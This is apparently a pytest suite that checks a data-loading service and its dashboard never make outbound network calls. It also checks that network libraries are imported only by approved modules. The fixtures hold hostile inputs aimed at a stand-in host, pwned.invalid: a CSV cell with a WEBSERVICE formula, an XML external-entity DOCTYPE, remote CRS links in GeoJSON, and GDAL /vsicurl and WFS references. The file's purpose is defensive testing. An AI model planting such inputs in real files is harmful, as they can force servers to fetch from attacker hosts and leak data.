"""The service calls nobody: only ``etl fetch``, signing in by a provider and the sending of e-mails
know how to, and what is brought in or asked for makes neither the loader nor the server go
anywhere."""

import ast
import json
import os
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest
from sqlalchemy import Engine

from etl.sources.feature_files import read_features
from reports import FileProblem, LoadReport

ROOT = Path(__file__).resolve().parent.parent
ROOMS = ("analysis", "dashboard", "db", "etl", "layers", "record")
CALLERS = {"httpx", "requests", "urllib", "urllib3", "aiohttp", "http", "ftplib", "smtplib"}
HARMLESS = {"urllib.parse"}
MAY_CALL = ("etl/fetch/", "dashboard/oidc/", "dashboard/news/posting.py")

WATCHED = """
import os, sys
from pathlib import Path

HOME = ("127.0.0.1", "::1", "localhost", "")

def watch(event, told):
    if event in ("socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr"):
        where = str(told[0])
    elif event in ("socket.connect", "socket.sendto", "socket.sendmsg"):
        address = told[1]
        where = address[0] if isinstance(address, tuple) else ""
    else:
        return
    if where not in HOME:
        print(f"CALLED {event} {where}", flush=True)
        os._exit(7)

sys.addaudithook(watch)
"""
ASKED = """
from pydantic import SecretStr
from dashboard.application import make_application
from db.connection import engine_for
from db.published import Published
from etl import uploads as brought
from etl.publish.publishing import publish
from etl.registers import read
from record import uploads
from reports import LoadReport
from settings import Settings

address, folder = sys.argv[1:]
engine = engine_for(address)
report = LoadReport("register", ["list"])
for path in sorted(Path(folder).iterdir()):
    try:
        read(path, report)
    except Exception as problem:
        print(type(problem).__name__)
    with engine.begin() as connection:
        number = uploads.receive(connection, path.name, path.read_bytes(), "Ann", {})
    brought.look(engine, number)
publish(engine, lambda line: None)
settings = Settings(database_url=address, secret=SecretStr("x" * 40))
app = make_application(Published(engine), settings)
client, asked = app.server.test_client(), 0
words = "http://pwned.invalid/x?a=1"
for rule in app.server.url_map.iter_rules():
    if "GET" in (rule.methods or ()) and "oidc" not in rule.rule:
        parts = {name: 1 if "int:" in rule.rule else words for name in rule.arguments}
        for query in ({}, {"q": words, "then": words, "id": words, "place": words}):
            asked += client.get(rule.build(parts)[1], query_string=query).status_code < 500
print("ASKED", asked)
"""


def test_only_three_rooms_know_how_to_call() -> None:
    found = set()
    for room in ROOMS:
        for path in (ROOT / room).rglob("*.py"):
            name = path.relative_to(ROOT).as_posix()
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                modules = [node.module or ""] if isinstance(node, ast.ImportFrom) else []
                modules = [x.name for x in node.names] if isinstance(node, ast.Import) else modules
                called = [x for x in modules if x.split(".")[0] in CALLERS and x not in HARMLESS]
                if called and not name.startswith(MAY_CALL):
                    found.add((name, *called))
    assert found == set()


def grants(title: str) -> str:
    return json.dumps(
        {
            "$schema": "http://pwned.invalid/schema.json",
            "extensions": ["http://pwned.invalid/extension.json"],
            "grants": [
                {
                    "id": "X-1",
                    "title": title,
                    "dataSource": "http://pwned.invalid/",
                    "recipientOrganization": [{"id": "R", "name": "R", "url": title}],
                    "fundingOrganization": [{"id": "F", "name": "F"}],
                }
            ],
        }
    )


def test_neither_loader_nor_server_goes_anywhere(demo_sqlite_copy: Engine, tmp_path: Path) -> None:
    folder = tmp_path / "lists"
    folder.mkdir()
    call = "http://pwned.invalid/a.csv"
    (folder / "a.json").write_text(grants(call))
    (folder / "b.csv").write_text(
        "Identifier,Title,Funding Org:Name,Recipient Org:Name,Data Source\n"
        f'X-2,"=WEBSERVICE(""{call}"")",{call},{call},{call}\n'
    )
    (folder / "c.xml").write_text(f'<?xml version="1.0"?><!DOCTYPE a SYSTEM "{call}"><a/>')
    address = demo_sqlite_copy.url.render_as_string()
    done = subprocess.run(
        [sys.executable, "-c", WATCHED + ASKED, address, str(folder)],
        cwd=ROOT,
        env={**os.environ, "DATABASE_URL": address},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert "CALLED" not in done.stdout, done.stdout
    assert done.returncode == 0, done.stderr[-2_000:]
    assert int(done.stdout.split("ASKED ")[1]) > 150


def test_the_watch_sees_a_call() -> None:
    """Or the test above would hold nothing."""
    call = "import socket; socket.create_connection(('pwned.invalid', 80), 1)"
    done = subprocess.run(
        [sys.executable, "-c", WATCHED + call], capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout.strip()[:6]) == (7, "CALLED")


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server on this machine, and what was asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"{}")

        do_HEAD = do_GET

        def log_message(self, *_told: object) -> None:
            """Not to the terminal."""

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    thread.join()


SQUARE = [[[-3, 53], [-2.9, 53], [-2.9, 53.1], [-3, 53]]]


def features(**more: object) -> str:
    feature = {
        "type": "Feature",
        "properties": {"code": "E05000001", "name": "Ash"},
        "geometry": {"type": "Polygon", "coordinates": SQUARE},
    }
    return json.dumps({"type": "FeatureCollection", "features": [feature], **more})


VRT = (
    "<OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>{}</SrcDataSource>"
    "</OGRVRTLayer></OGRVRTDataSource>"
)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("link.geojson", features(crs={"type": "link", "properties": {"href": "{}/a"}})),
        ("url.geojson", features(crs={"type": "url", "properties": {"url": "{}/b"}})),
        ("name.geojson", features(crs={"type": "name", "properties": {"name": "{}/c"}})),
        ("own.geojson", features(crs={"type": "EPSG", "properties": {"code": "{}/d"}})),
        ("virtual.gpkg", VRT.format("/vsicurl/{}/e.geojson")),
        ("virtual.shp", VRT.format("/vsicurl/{}/f.geojson")),
        ("service.gpkg", "<WFSServiceDescription><URL>{}/g</URL></WFSServiceDescription>"),
        ("service.geojson", '{{"currentVersion": 1, "layers": [], "serviceUri": "{}/h"}}'),
    ],
)
def test_shapes_lead_nowhere(
    listener: tuple[str, list[str]], tmp_path: Path, name: str, content: str
) -> None:
    """What GDAL would fetch, were it told to."""
    address, asked = listener
    path = tmp_path / name
    path.write_text(content.replace("{}", address))
    packed = tmp_path / "packed.zip"
    with zipfile.ZipFile(packed, "w") as archive:
        archive.write(path, name)
    for one in (path, packed):
        try:
            found = read_features(one, LoadReport("boundaries", [one.name]))
        except FileProblem:
            found = None
        assert asked == [], one.name
        assert found is None or found.crs
